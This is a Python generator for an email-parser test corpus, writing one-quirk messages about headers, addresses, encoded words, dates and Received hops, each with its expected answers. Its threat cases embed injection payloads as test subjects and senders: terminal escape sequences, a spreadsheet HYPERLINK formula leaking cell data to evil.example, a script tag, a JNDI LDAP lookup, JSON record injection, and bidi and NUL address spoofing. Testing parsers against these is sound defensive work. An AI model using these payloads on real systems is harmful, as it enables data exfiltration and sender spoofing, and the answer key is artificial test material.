#!/usr/bin/env python3
"""Writes the one-quirk files of corpus/mail, corpus/mbox and corpus/other, and the answers beside them.

    corpus/make_quirks.py [DIR]       DIR is corpus/ by default; the same bytes on every machine

Each quirk is a literal here, with the answer a standard gives written next to it by hand. Byte ranges are not parsed:
they are the places of literal text, found by `at`. Nothing here uses a mail parser, ours or any other.
The shape of the answers is described in README.md.
"""

import json
import re
import shutil
import sys
from pathlib import Path

from mailkit import *

HERE = Path(__file__).resolve().parent
DONE = {}
UNSAID = object()  # a fact that the answer says nothing about
STANDARD = {
    "From": "Ada Ek <ada@example.org>",
    "To": "bob@example.net",
    "Subject": "A quirk",
    "Date": "Thu, 20 Nov 2025 08:15:04 +0000",
    "Message-ID": "<q1@example.org>",
}
STANDARD_FACTS = {
    "From": {"from": ["ada@example.org"]},
    "To": {"to": ["bob@example.net"]},
    "Subject": {"subject": "A quirk"},
    "Date": {"date_utc": "2025-11-20T08:15:04Z", "date_offset_secs": 0},
    "Message-ID": {"message_id": "<q1@example.org>"},
}


def at(data, text, nth=0):
    """Range of a literal, which must be there."""
    text = text.encode("latin-1") if isinstance(text, str) else text
    place = -1
    for _ in range(nth + 1):
        place = data.index(text, place + 1)
    return [place, place + len(text)]


def item(data, start, end, **more):
    body = data[start:end]
    out = {"start": start, "end": end, "rule": "none", "sha256": sha256(body)}
    message = body
    if more.get("rule") == "mboxrd":
        message = re.sub(rb"(?m)^>(>*From )", rb"\1", body)
    return out | {"wire_sha256": sha256(wire(message))} | more


def put(path, data, shows, source, answer):
    assert path not in DONE, path
    DONE[path] = (data, {"shows": shows, "source": source} | answer)


def eml(name, raw, shows, source="RFC 5322", facts=None, kind="eml", **more):
    """A file that is one message."""
    raw = raw.encode("latin-1") if isinstance(raw, str) else raw
    answer = {"kind": kind, "items": [item(raw, 0, len(raw))], "facts": facts or {}}
    put(f"mail/{name}.eml", raw, shows, source, answer | more)


def base(body="Text.\n", top="", extra="", mime=None, **instead):
    """A standard message with fields replaced (`From=..`, None: left out), and the facts that still hold."""
    facts, lines = {}, top
    for field, value in STANDARD.items():
        key = field.replace("-", "_")
        if key in instead:
            value = instead[key]
        else:
            facts |= STANDARD_FACTS[field]
        if value is not None:
            lines += f"{field}: {value}\n"
    lines += extra
    if mime:
        lines += f"MIME-Version: 1.0\n{mime}"
    return lines.encode("latin-1") + b"\n" + (body if isinstance(body, bytes) else body.encode("latin-1")), facts


def quirk(name, shows, source, anomalies=(), body="Text.\n", facts=None, top="", extra="", mime=None, **instead):
    """A standard message with one thing odd."""
    raw, known = base(body, top, extra, mime, **instead)
    answer = known | ({"anomalies": list(anomalies)} if anomalies else {}) | (facts or {})
    answer = {key: value(raw) if callable(value) else value for key, value in answer.items() if value is not UNSAID}
    eml(name, raw, shows, source, answer)


def attachment(part, name, data, **more):
    return {"part": part, "name": name, "size": len(data), "sha256": sha256(data)} | more


# ------------------------------------------------------------------------------------------------- headers


def headers():
    quirk("plain", "A message with nothing odd.", "RFC 5322 section 3.6", facts={"clean": True, "fields": 5, "words": ["Text", "quirk", "ada@example.org", "example.net"]})
    raw, known = base()
    eml("crlf", wire(raw), "The same message with CRLF line ends: stored bytes differ, the wire form is the same.", "RFC 5322 section 2.1", known | {"clean": True, "fields": 5})
    quirk("folded", "Fields folded in every legal way are read as one line.", "RFC 5322 section 2.2.3", Subject="A long\n subject\n\t in three lines", To="bob@example.net,\n  Carla\n <carla@example.com>", facts={"from": ["ada@example.org"], "to": ["bob@example.net", "carla@example.com"], "fields": 5, "words": ["subject", "lines", "carla@example.com"]}, From="Ada\n Ek\n <ada@example.org>")
    quirk("header-line-without-colon", "A line in the header block that is no field; the fields after it are still read.", "RFC 5322 section 2.2", ["header-line-without-colon"], extra="this line is no field\nX-After: yes\n")
    quirk("header-name-with-blank", "`Fr om:` is not From.", "RFC 5322 section 2.2", ["header-name-invalid"], extra="Fr om: eve@example.com\n")
    quirk("header-name-8bit", "A field name with a byte over 126.", "RFC 5322 section 2.2", ["header-name-invalid"], extra="X-K\xe4se: gouda\n")
    quirk("header-blank-before-colon", "`Subject :` is the old syntax and still a subject.", "RFC 5322 section 4.5", Subject=None, extra="Subject : old style\n", facts={"subject": "old style"})
    raw = b"".join(f"{k}: {v}\n".encode() for k, v in STANDARD.items())
    eml("header-end-missing", raw, "The file ends inside the header block.", "RFC 5322 section 2.1", {"message_id": "<q1@example.org>", "subject": "A quirk", "anomalies": ["header-end-missing"], "fields": 5})
    quirk("header-nul", "A NUL byte in the subject: what stands behind it is not cut off.", "RFC 5322 section 2.2", ["nul-in-header"], Subject="before\0after", facts={"words": ["after"]})
    quirk("header-8bit", "Latin-1 bytes in a subject without a charset.", "RFC 6532", ["header-8bit"], Subject="Gr\xfc\xdfe aus K\xf6ln", facts={"words": ["aus"]})
    quirk("header-utf8", "A subject in plain UTF-8 is legal now.", "RFC 6532", Subject="Grüße aus Köln".encode().decode("latin-1"), facts={"subject": "Grüße aus Köln", "not_anomalies": ["header-8bit"], "words": ["Köln", "koln"]})
    quirk("bare-cr", "A CR alone does not end a line.", "RFC 5322 section 2.3", ["bare-cr"], Subject="one\rBcc: two@example.com", facts={"bcc": []})
    quirk("long-line", "A line of 1,500 bytes.", "RFC 5322 section 2.1.1", ["long-line"], body="x" * 700 + " needle " + "y" * 792 + "\n", facts={"words": ["needle"]})
    quirk("long-field", "A subject of 2,000 bytes on one line.", "RFC 5322 section 2.1.1", ["long-line"], Subject="word " * 399 + "last", facts={"words": ["last"]})
    quirk("duplicate-from", "Two From fields: both are shown and found, the first counts.", "RFC 5322 section 3.6", ["duplicate-field"], extra="From: Eve <eve@example.com>\n", From="Ada Ek <ada@example.org>", facts={"from": ["ada@example.org", "eve@example.com"]})
    quirk("duplicate-subject", "Two subjects.", "RFC 5322 section 3.6", ["duplicate-field"], extra="Subject: Second\n", Subject="First", facts={"subject": "First", "words": ["Second"]})
    quirk("duplicate-date", "Two dates; the first counts.", "RFC 5322 section 3.6", ["duplicate-field"], extra="Date: Fri, 21 Nov 2025 08:15:04 +0000\n", Date="Thu, 20 Nov 2025 08:15:04 +0000", facts={"date_utc": "2025-11-20T08:15:04Z"})
    quirk("duplicate-message-id", "Two Message-IDs; the first counts.", "RFC 5322 section 3.6", ["duplicate-field"], extra="Message-ID: <q2@example.org>\n", Message_ID="<q1@example.org>", facts={"message_id": "<q1@example.org>"})
    quirk("missing-from", "No From.", "RFC 5322 section 3.6", ["missing-from"], From=None, facts={"from": []})
    quirk("missing-date", "No Date: undated, and the time of the hop is not put in its place.", "RFC 5322 section 3.6", ["missing-date"], Date=None, top="Received: from a.example.org (a.example.org [192.0.2.1])\n\tby b.example.net (Postfix) with ESMTP id 4F2aBc1\n\tfor <bob@example.net>; Thu, 20 Nov 2025 09:00:00 +0100 (CET)\n", facts={"date_utc": None, "hops": [{"helo": "a.example.org", "rdns": "a.example.org", "ip": "192.0.2.1", "by": "b.example.net", "id": "4F2aBc1", "with": "ESMTP", "for": "bob@example.net", "date_utc": "2025-11-20T08:00:00Z"}]})
    quirk("missing-message-id", "No Message-ID, so no MIH.", "RFC 5322 section 3.6.4", ["missing-message-id"], Message_ID=None, facts={"message_id": None, "mih": None})
    quirk("message-id-mih", "The EDRM hash is the MD5 of the Message-ID with its brackets.", "EDRM MIH 1.0", Message_ID="<CALckR-a8UDkRjO4xJyjd_s0GPxQWw@mail.gmail.com>", facts={"message_id": "<CALckR-a8UDkRjO4xJyjd_s0GPxQWw@mail.gmail.com>", "mih": "1de319c276884bd0c9e2f1621ada26cc"})
    quirk("message-id-without-brackets", "A Message-ID without brackets is taken as it stands.", "RFC 5322 section 3.6.4", ["message-id-invalid"], Message_ID="q1@example.org", facts={"message_id": "q1@example.org"})
    quirk("message-id-folded", "A Message-ID on the line after its name.", "RFC 5322 section 3.6.4", Message_ID="\n <long-id-that-had-to-be-folded@example.org>", facts={"message_id": "<long-id-that-had-to-be-folded@example.org>"})
    quirk("header-only", "No body at all, but the empty line is there.", "RFC 5322 section 2.1", body="", facts={"not_anomalies": ["header-end-missing"]})
    quirk("references", "Message ids of In-Reply-To and References, in order.", "RFC 5322 section 3.6.4", extra="In-Reply-To: <c@example.org>\nReferences: <a@example.org> <b@example.org>\n <c@example.org>\n", facts={"references_contain": ["<a@example.org>", "<b@example.org>", "<c@example.org>"]})
    quirk("own-parent", "A message that answers itself: threading must not go round for ever.", "RFC 5322 section 3.6.4", extra="In-Reply-To: <q1@example.org>\nReferences: <q1@example.org>\n")
    quirk("resent", "A Resent block: its people are not the sender.", "RFC 5322 section 3.6.6", top="Resent-From: Eve <eve@example.com>\nResent-To: frank@example.com\nResent-Date: Fri, 21 Nov 2025 08:15:04 +0000\nResent-Message-ID: <r1@example.com>\n", facts={"from": ["ada@example.org"], "to": ["bob@example.net"]})
    quirk("trace-fields", "Return-Path, Delivered-To and X-Original-To are addresses too.", "RFC 5321 section 4.4", top="Return-Path: <bounce@example.com>\nX-Original-To: info@example.net\nDelivered-To: bob@example.net\n", facts={"words": ["bounce@example.com", "info@example.net"]})
    quirk("mbox-state", "Status fields of mail programs become words.", "mbox practice", extra="Status: RO\nX-Status: A\n", facts={"state_contains": ["read"]})


# ------------------------------------------------------------------------------------------------- people


def people():
    quirk("address-group", "A group and its members.", "RFC 5322 section 3.4", To="Crew: bob@example.net, Carla <carla@example.com>;, dan@example.org", facts={"to": ["bob@example.net", "carla@example.com", "dan@example.org"]})
    quirk("address-empty-group", "undisclosed-recipients is nobody.", "RFC 5322 section 3.4", To="undisclosed-recipients:;", facts={"to": []})
    quirk("address-comments", "Comments anywhere, nested.", "RFC 5322 section 3.2.2", From="Ada (the (only) one) <ada(home)@example.org>", facts={"from": ["ada@example.org"]})
    quirk("address-old-comment-name", "The old form: the name in a comment.", "RFC 5322 section 3.4", From="ada@example.org (Ada Ek)", facts={"from": ["ada@example.org"]})
    quirk("address-quoted-local", "A quoted local part with an @ and a blank in it.", "RFC 5322 section 3.4.1", From='"ada @ home"@example.org', facts={"words": ["example.org"]})
    quirk("address-route", "A source route is not the address.", "RFC 5322 section 4.4", From="Ada <@relay.example.com,@other.example.net:ada@example.org>", facts={"from": ["ada@example.org"]})
    quirk("address-in-display-name", "The display name is another address than the real one.", "RFC 5322 section 3.4", ["address-in-display-name"], From='"boss@example.net" <eve@example.com>', facts={"from": ["eve@example.com"], "words": ["boss@example.net"]})
    quirk("address-same-in-display-name", "The display name is the address itself: nothing odd.", "RFC 5322 section 3.4", From='"ada@example.org" <ada@example.org>', facts={"from": ["ada@example.org"], "not_anomalies": ["address-in-display-name"]})
    quirk("address-invalid", "A From that holds no address.", "RFC 5322 section 3.4", ["address-invalid"], From="the accounts department", facts={"words": ["accounts"]})
    quirk("address-long", "A local part of 64 bytes and a domain of 100: found as one word.", "RFC 5321 section 4.5.3.1", From="x" * 64 + "@" + "a" * 40 + "." + "b" * 40 + ".example.org", facts={"from": ["x" * 64 + "@" + "a" * 40 + "." + "b" * 40 + ".example.org"], "words": ["x" * 64 + "@" + "a" * 40 + "." + "b" * 40 + ".example.org"]})
    quirk("address-idn", "A domain in UTF-8.", "RFC 6531", From="Ada <ada@bücher.example>".encode().decode("latin-1"), facts={"from": ["ada@bücher.example"]})
    quirk("address-bidi", "A right-to-left override in the display name: the real address is shown and found.", "threat E7", From=word("moc.elpmaxe@ssob \u202e", "utf-8") + " <eve@example.com>", facts={"from": ["eve@example.com"]})
    quirk("address-nul", "A NUL that would cut the address short in C.", "threat E7", From="boss@example.net\0 <eve@example.com>", anomalies=["nul-in-header"], facts={"words": ["eve@example.com"]})
    quirk("address-many", "300 recipients in one field.", "RFC 5322 section 3.4", To=",\n ".join(f"r{n}@example.net" for n in range(300)), facts={"to": [f"r{n}@example.net" for n in range(300)]})
    quirk("address-case", "Search does not care for the case of an address; the fact keeps it.", "RFC 5321 section 2.4", From="Ada.EK@Example.ORG", facts={"from": ["Ada.EK@Example.ORG"], "words": ["ada.ek@example.org"]})
    quirk("bcc", "Blind copies are recipients.", "RFC 5322 section 3.6.3", extra="Cc: Carla <carla@example.com>\nBcc: dan@example.org\n", facts={"cc": ["carla@example.com"], "bcc": ["dan@example.org"]})


# ------------------------------------------------------------------------------------------------- encoded words and output


def words():
    quirk("encoded-word-q", "Quoted-printable form with underscores for blanks.", "RFC 2047 section 4.2", Subject="=?iso-8859-1?Q?Gr=FC=DFe_aus_K=F6ln?=", facts={"subject": "Grüße aus Köln", "words": ["Grüße", "koln"]})
    quirk("encoded-word-split", "One word in two encoded words: the blank between them vanishes.", "RFC 2047 section 6.2", Subject="=?utf-8?Q?Haupt?=\n =?utf-8?Q?bahnhof?=", facts={"subject": "Hauptbahnhof", "words": ["Hauptbahnhof"]})
    raw = "日本".encode()
    two = [base64.b64encode(raw[:4]).decode(), base64.b64encode(raw[4:]).decode()]
    quirk("encoded-word-split-character", "One character cut in two encoded words: the bytes are joined before decoding.", "RFC 2047 section 5", Subject=f"=?utf-8?B?{two[0]}?= =?utf-8?B?{two[1]}?=", facts={"subject": "日本"})
    quirk("encoded-word-mixed", "Encoded and plain text: the blank between them stays.", "RFC 2047 section 6.2", Subject="Re: =?utf-8?Q?caf=C3=A9?= and tea", facts={"subject": "Re: café and tea"})
    quirk("encoded-word-language", "A language tag in the charset.", "RFC 2231 section 5", Subject="=?utf-8*fr?Q?caf=C3=A9?=", facts={"subject": "café"})
    quirk("encoded-word-invalid", "An encoded word of an encoding that there is not: shown as it stands.", "RFC 2047 section 2", ["encoded-word-invalid"], Subject="=?utf-8?X?abc?=", facts={"subject": "=?utf-8?X?abc?="})
    quirk("encoded-word-unclosed", "An encoded word that is not closed.", "RFC 2047 section 2", Subject="=?utf-8?Q?never closed", facts={"subject": "=?utf-8?Q?never closed", "words": ["closed"]})
    quirk("encoded-word-in-quotes", "Not legal inside quotes, but decoded for people and for search.", "RFC 2047 section 5", From='"=?utf-8?Q?J=C3=BCrgen?=" <juergen@example.org>', facts={"from": ["juergen@example.org"], "words": ["Jürgen"]})
    quirk("encoded-word-koi8", "A Russian subject.", "RFC 2047", Subject=word("Привет мир", "koi8-r"), facts={"subject": "Привет мир", "words": ["Привет", "мир"]})
    quirk("encoded-word-iso-2022-jp", "A Japanese subject.", "RFC 2047", Subject=word("請求書", "iso-2022-jp"), facts={"subject": "請求書", "words": ["請求書", "請求"]})
    quirk("subject-empty", "An empty subject is there and is empty.", "RFC 5322 section 3.6.5", Subject="", facts={"subject": ""})
    esc = "=?utf-8?Q?=1B]0;owned=07=1B[2J=C2=9B31mred=0Dline?="
    quirk("subject-terminal-escapes", "Terminal escapes and a C1 control, encoded: no output may pass them on raw.", "threat E1", Subject=esc, facts={"subject": "\x1b]0;owned\x07\x1b[2J\u009b31mred\rline", "never_raw": ["1b5d", "1b5b", "c29b"]})
    quirk("subject-raw-escapes", "The same, raw in the field.", "threat E1", Subject="\x1b]52;c;b3duZWQ=\x07 hi \x1b[31m", facts={"never_raw": ["1b5d", "1b5b"], "words": ["hi"]})
    quirk("subject-formula", "A spreadsheet formula as subject and name.", "threat E2", Subject='=HYPERLINK("http://evil.example/"&A1,"x")', From='"+1+1" <eve@example.com>', facts={"subject": '=HYPERLINK("http://evil.example/"&A1,"x")', "from": ["eve@example.com"]})
    quirk("subject-script", "Script and template text as subject.", "threat E3", Subject="<script>alert(1)</script> {{7*7}} ${jndi:ldap://x.example/}", facts={"subject": "<script>alert(1)</script> {{7*7}} ${jndi:ldap://x.example/}"})
    quirk("subject-record-injection", "A line feed and JSON inside an encoded word: one item stays one record.", "threat E5", Subject='=?utf-8?Q?a=0A{"item":"fake"}=0D=0Ab?=', facts={"subject": 'a\n{"item":"fake"}\r\nb'})
    quirk("subject-bidi", "Bidirectional marks and a line separator.", "threat E1", Subject=word("a\u202eb\u2066c\u2028d", "utf-8"), facts={"subject": "a\u202eb\u2066c\u2028d", "never_raw": ["e280ae", "e281a6", "e280a8"]})
    quirk("subject-zero-width", "Zero-width characters inside a word: the word is found.", "threat E13", Subject=word("pass\u200bword", "utf-8"), facts={"words": ["password"]})


# ------------------------------------------------------------------------------------------------- dates


def dates():
    def d(name, text, utc_text, offset, shows, anomalies=(), source="RFC 5322 section 3.3", **more):
        facts = {"date_utc": utc_text, "date_offset_secs": offset} | more
        quirk(f"date-{name}", shows, source, anomalies, Date=text, facts=facts)

    d("east", "Thu, 20 Nov 2025 08:15:04 +0530", "2025-11-20T02:45:04Z", 19800, "A zone of five and a half hours east.", clean=True)
    d("no-weekday", "20 Nov 2025 08:15:04 -0330", "2025-11-20T11:45:04Z", -12600, "The day of the week may be missing.", clean=True)
    d("one-digit-day", "Sat, 1 Feb 2025 08:15:04 +0000", "2025-02-01T08:15:04Z", 0, "A day of one digit.", clean=True)
    d("comments", "Thu(urs), 20 (twenty) Nov 2025 08:15:04 +0100 (CET (winter))", "2025-11-20T07:15:04Z", 3600, "Comments between all tokens.", source="RFC 5322 section 4.3")
    d("folded", "Thu, 20 Nov\n 2025 08:15:04\n\t+0000", "2025-11-20T08:15:04Z", 0, "A folded date.")
    d("unreadable", "yesterday", None, None, "No date can be read.", ["date-unreadable"])
    d("day-45", "Thu, 45 Nov 2025 08:15:04 +0000", None, None, "There is no 45 November; nothing is guessed.", ["date-invalid"])
    d("feb-30", "Mon, 30 Feb 2025 08:15:04 +0000", None, None, "There is no 30 February.", ["date-invalid"])
    d("hour-25", "Thu, 20 Nov 2025 25:61:04 +0000", None, None, "There is no hour 25.", ["date-invalid"])
    d("weekday-mismatch", "Mon, 20 Nov 2025 08:15:04 +0000", "2025-11-20T08:15:04Z", 0, "20 November 2025 was a Thursday.", ["weekday-mismatch"])
    d("two-digit-25", "Thu, 20 Nov 25 08:15:04 +0000", "2025-11-20T08:15:04Z", 0, "25 is 2025.", ["two-digit-year"], source="RFC 5322 section 4.3")
    d("two-digit-69", "Thu, 20 Nov 69 08:15:04 +0000", "1969-11-20T08:15:04Z", 0, "69 is 1969, before the epoch.", ["two-digit-year"], source="RFC 5322 section 4.3")
    d("three-digit-103", "Thu, 20 Nov 103 08:15:04 +0000", "2003-11-20T08:15:04Z", 0, "103 is 1900 + 103.", ["two-digit-year"], source="RFC 5322 section 4.3")
    d("zone-missing", "Thu, 20 Nov 2025 08:15:04", "2025-11-20T08:15:04Z", None, "No zone: read as if in UTC and marked.", ["zone-missing"])
    d("zone-unknown", "Thu, 20 Nov 2025 08:15:04 MESZ", "2025-11-20T08:15:04Z", None, "A zone name without an agreed offset.", ["zone-unknown"], source="RFC 5322 section 4.3")
    d("zone-est", "Thu, 20 Nov 2025 08:15:04 EST", "2025-11-20T13:15:04Z", -18000, "EST is -0500.", ["zone-named"], source="RFC 5322 section 4.3")
    d("zone-posix", "Thu, 10 Jul 1997 14:53:30 EST5EDT", "1997-07-10T14:53:30Z", None, "A zone name of which only the beginning is known.", ["zone-unknown"], source="RFC 5322 section 4.3")
    d("zone-windows", "Thu, 10 Jul 1997 14:53:30 GMT Daylight Time", "1997-07-10T14:53:30Z", None, "A zone's name for people: an hour from GMT.", ["zone-unknown"], source="RFC 5322 section 4.3")
    d("zone-twice", "Thu, 10 Jul 1997 14:53:30 EST -0400", "1997-07-10T14:53:30Z", None, "A name and an offset that do not agree.", ["zone-unknown"], source="RFC 5322 section 4.3")
    d("for-people", "December 1, 2014 at 2:59:42 PM PST", "2014-12-01T22:59:42Z", -28800, "A date as it is written for people.", ["twelve-hour-clock", "date-form", "zone-named"])
    d("beyond-9999", "Sat, 31 Dec 9999 23:59:60 +0000", None, None, "The year 10000 has no RFC 3339.", ["date-invalid"])
    d("zone-gmt", "Thu, 20 Nov 2025 08:15:04 GMT", "2025-11-20T08:15:04Z", 0, "GMT is +0000.", ["zone-named"], source="RFC 5322 section 4.3")
    d("zone-minutes", "Thu, 20 Nov 2025 08:15:04 +0199", UNSAID, UNSAID, "An offset of 99 minutes.", ["zone-invalid"])
    d("zone-too-far", "Thu, 20 Nov 2025 08:15:04 -1600", UNSAID, UNSAID, "No place is 16 hours west.", ["zone-invalid"])
    d("zone-comment", "Thu, 20 Nov 2025 08:15:04 -0800 (EST)", "2025-11-20T16:15:04Z", -28800, "The comment names another zone than the offset.", ["zone-comment-mismatch"])
    d("zone-minus-zero", "Thu, 20 Nov 2025 08:15:04 -0000", "2025-11-20T08:15:04Z", UNSAID, "-0000: UTC, and where the writer is is not told.", ["zone-minus-zero"])
    d("leap-second", "Sat, 31 Dec 2016 23:59:60 +0000", "2017-01-01T00:00:00Z", 0, "Second 60 is the first instant of the next minute.", ["leap-second"])
    d("no-seconds", "Thu, 20 Nov 2025 08:15 +0000", "2025-11-20T08:15:00Z", 0, "A time without seconds.", ["seconds-missing"])
    d("twelve-hour", "Thu, 20 Nov 2025 08:15:04 PM +0000", UNSAID, UNSAID, "A twelve-hour clock.", ["twelve-hour-clock"])
    d("time-missing", "Thu, 20 Nov 2025 +0000", UNSAID, UNSAID, "A date without a time of day.", ["time-missing"])
    d("ctime", "Thu Nov 20 08:15:04 2025 +0000", "2025-11-20T08:15:04Z", 0, "ctime order.", ["date-form"])
    d("iso", "2025-11-20T08:15:04+01:00", "2025-11-20T07:15:04Z", 3600, "ISO 8601.", ["date-form"])
    d("full-month", "Thursday, 20 November 2025 08:15:04 +0000", "2025-11-20T08:15:04Z", 0, "Full names.", ["date-form"])
    d("trailing", "Thu, 20 Nov 2025 08:15:04 +0000 and so on", "2025-11-20T08:15:04Z", 0, "Text after the date.", ["date-trailing"])
    d("year-9999", "Fri, 31 Dec 9999 23:59:59 +0000", "9999-12-31T23:59:59Z", 0, "The last second of four-digit years.")
    d("digits-arabic", "Thu, ٢٠ Nov 2025 08:15:04 +0000".encode().decode("latin-1"), None, UNSAID, "Digits that are not ASCII are no date.", anomalies_any=[["date-unreadable", "date-invalid"]])


# ------------------------------------------------------------------------------------------------- hops


def hops():
    def h(name, text, hop, shows, anomalies=(), source="hops", count=1, **more):
        known = {"hops": [hop] if isinstance(hop, dict) else hop} | more
        quirk(f"hop-{name}", shows, source, anomalies, top=text, facts=known)

    day, at8 = "Thu, 20 Nov 2025 08:15:04 +0000", "2025-11-20T08:15:04Z"
    h("postfix", f"Received: from helo.example.com (rdns.example.com [192.0.2.7])\n\t(using TLSv1.3 with cipher TLS_AES_256_GCM_SHA384 (256/256 bits)\n\t key-exchange X25519 server-signature RSA-PSS (2048 bits) server-digest SHA256)\n\t(Client did not present a certificate)\n\t(Authenticated sender: ada)\n\tby mx.example.net (Postfix) with ESMTPSA id 4Z1aBcDeFgz7\n\tfor <bob@example.net>; {day} (UTC)\n", {"helo": "helo.example.com", "rdns": "rdns.example.com", "ip": "192.0.2.7", "by": "mx.example.net", "id": "4Z1aBcDeFgz7", "with": "ESMTPSA", "for": "bob@example.net", "date_utc": at8}, "Postfix: the first name is what the client said.", words=["rdns.example.com", "helo.example.com"])
    h("postfix-unknown", f"Received: from [192.0.2.8] (unknown [IPv6:2001:db8::8])\n\tby mx.example.net (Postfix) with ESMTP id 9B2C41; {day}\n", {"helo": "[192.0.2.8]", "rdns": None, "ip": "2001:db8::8", "by": "mx.example.net", "id": "9B2C41", "with": "ESMTP", "for": None, "date_utc": at8}, "Postfix writes `unknown` where there is no name, and IPv6 with a tag.")
    h("exim", f"Received: from rdns.example.com ([192.0.2.9] helo=helo.example.com)\n\tby mx.example.net with esmtps (TLS1.3) tls TLS_AES_256_GCM_SHA384\n\t(Exim 4.97)\n\t(envelope-from <ada@example.org>)\n\tid 1vLzZA-0000000AbCd-2x3Y\n\tfor bob@example.net; {day}\n", {"helo": "helo.example.com", "rdns": "rdns.example.com", "ip": "192.0.2.9", "by": "mx.example.net", "id": "1vLzZA-0000000AbCd-2x3Y", "with": "esmtps", "for": "bob@example.net", "date_utc": at8}, "Exim: the first name is the receiver's own look-up.")
    h("exim-no-name", f"Received: from [192.0.2.10] (port=4711 helo=evil.example)\n\tby mx.example.net with smtp (Exim 4.97)\n\tid 1vLzZB-0000000AbCe-2x3Z; {day}\n", {"helo": "evil.example", "rdns": None, "ip": "192.0.2.10", "by": "mx.example.net", "id": "1vLzZB-0000000AbCe-2x3Z", "with": "smtp", "date_utc": at8}, "Exim without a name for the address.")
    h("sendmail", f"Received: from helo.example.com (rdns.example.com [192.0.2.11] (may be forged))\n\t(authenticated bits=0)\n\tby mx.example.net (8.17.1/8.17.1) with ESMTPSA id 5AK8F4Xx012345\n\t(version=TLSv1.3 cipher=TLS_AES_256_GCM_SHA384 bits=256 verify=NO)\n\tfor <bob@example.net>; {day}\n", {"helo": "helo.example.com", "rdns": "rdns.example.com", "ip": "192.0.2.11", "by": "mx.example.net", "id": "5AK8F4Xx012345", "with": "ESMTPSA", "for": "bob@example.net", "date_utc": at8}, "sendmail, with a name that does not point back.")
    h("qmail", f"Received: (qmail 27394 invoked by uid 89); 20 Nov 2025 08:15:05 -0000\nReceived: from unknown (HELO helo.example.com) (ada@192.0.2.12)\n  by mx.example.net with SMTP; 20 Nov 2025 08:15:04 -0000\n", [{"date_utc": "2025-11-20T08:15:05Z"}, {"helo": "helo.example.com", "rdns": None, "ip": "192.0.2.12", "by": "mx.example.net", "with": "SMTP", "date_utc": at8}], "qmail: the address stands behind the name of the user.")
    h("m365", f"Received: from AM0PR07MB1234.eurprd07.prod.outlook.example.com (2001:db8:208:12::34)\n by AM9PR07MB5678.eurprd07.prod.outlook.example.com (2001:db8:20b:56::78) with\n Microsoft SMTP Server (version=TLS1_2,\n cipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384) id 15.20.9320.13; {day}\n", {"helo": "AM0PR07MB1234.eurprd07.prod.outlook.example.com", "rdns": None, "ip": "2001:db8:208:12::34", "by": "AM9PR07MB5678.eurprd07.prod.outlook.example.com", "id": "15.20.9320.13", "date_utc": at8}, "Exchange Online: both addresses, no look-up.")
    h("mapi", f"Received: from AM0PR07MB1234.eurprd07.prod.outlook.example.com\n ([fe80::1111:2222:3333:4444]) by AM0PR07MB1234.eurprd07.prod.outlook.example.com\n ([fe80::1111:2222:3333:4444%5]) with mapi id 15.20.9320.012; {day}\n", {"ip": "fe80::1111:2222:3333:4444", "by": "AM0PR07MB1234.eurprd07.prod.outlook.example.com", "with": "mapi", "id": "15.20.9320.012", "date_utc": at8}, "Exchange inside itself: mapi, and a zone id behind an address.")
    h("gmail", f"Received: from mail-ej1-f42.google.example.com (mail-ej1-f42.google.example.com. [192.0.2.42])\n        by mx.google.example.com with ESMTPS id 4fb4d7f45d1cf-61a3b2c1d0esi1234567a12.34.2025.11.20.00.15.04\n        for <bob@example.net>\n        (version=TLS1_3 cipher=TLS_AES_128_GCM_SHA256 bits=128/128);\n        Thu, 20 Nov 2025 00:15:04 -0800 (PST)\n", {"helo": "mail-ej1-f42.google.example.com", "ip": "192.0.2.42", "by": "mx.google.example.com", "with": "ESMTPS", "id": "4fb4d7f45d1cf-61a3b2c1d0esi1234567a12.34.2025.11.20.00.15.04", "for": "bob@example.net", "date_utc": at8}, "Gmail-like: a dot behind the looked-up name, the local time in the id.")
    h("dovecot", f"Received: from mx.example.net ([192.0.2.1])\n\tby store.example.net with LMTP\n\tid EOx2KBjMHmlZCgAAYBR3Wg\n\t(envelope-from <ada@example.org>)\n\tfor <bob@example.net>; {day}\n", {"helo": "mx.example.net", "ip": "192.0.2.1", "by": "store.example.net", "with": "LMTP", "id": "EOx2KBjMHmlZCgAAYBR3Wg", "for": "bob@example.net", "date_utc": at8}, "Dovecot's LMTP server.")
    h("domino", f"Received: from ws.example.com ([192.0.2.13])\n          by notes.example.net (HCL Domino Release 12.0.2)\n          with ESMTP id 2025112009150412-4711 ;\n          Thu, 20 Nov 2025 09:15:04 +0100\n", {"helo": "ws.example.com", "ip": "192.0.2.13", "by": "notes.example.net", "with": "ESMTP", "id": "2025112009150412-4711", "date_utc": at8}, "Domino: the time stands in the id.")
    h("pickup", f"Received: by mx.example.net (Postfix, from userid 1000)\n\tid 4Z1aBcDeFhz8; {day}\n", {"helo": None, "ip": None, "by": "mx.example.net", "id": "4Z1aBcDeFhz8", "date_utc": at8}, "Handed in on the machine itself.")
    h("date-missing", "Received: from a.example.com (a.example.com [192.0.2.14]) by b.example.net with SMTP id 1\n", {"ip": "192.0.2.14", "by": "b.example.net", "id": "1", "date_utc": None}, "A hop without a date.", ["received-date-missing"], "RFC 5321 section 4.4")
    h("two-digit-year", "Received: from a.example.com ([192.0.2.15]) by b.example.net with SMTP id 2; Thu, 20 Nov 25 08:15:04 +0000\n", {"ip": "192.0.2.15", "by": "b.example.net", "date_utc": at8}, "A two-digit year in a hop is this century.", ["two-digit-year"], "RFC 5322 section 4.3")
    h("unparsed", "Received: %%% nothing of this is a clause %%%\n", {"by": None, "ip": None, "date_utc": None}, "No clause can be read; the hop is kept and counted.", ["received-unparsed"], "RFC 5321 section 4.4")
    h("clause-repeated", f"Received: from a.example.com ([192.0.2.16]) by b.example.net by c.example.net with SMTP; {day}\n", {"ip": "192.0.2.16", "by": "b.example.net", "date_utc": at8}, "`by` twice: the first is used.", ["received-clause-repeated"], "RFC 5321 section 4.4")
    h("comment-unbalanced", f"Received: from a.example.com (a.example.com [192.0.2.17] by b.example.net with SMTP id 3; {day}\n", {"by": "b.example.net"}, "A comment that is never closed.", ["received-comment-unbalanced"], "RFC 5322 section 3.2.2")
    h("ip-invalid", f"Received: from a.example.com (a.example.com [192.0.2.256]) by b.example.net with SMTP id 4; {day}\n", {"ip": None, "by": "b.example.net"}, "256 is no octet; it is not repaired.", ["ip-invalid"], "RFC 5321 section 4.1.3")
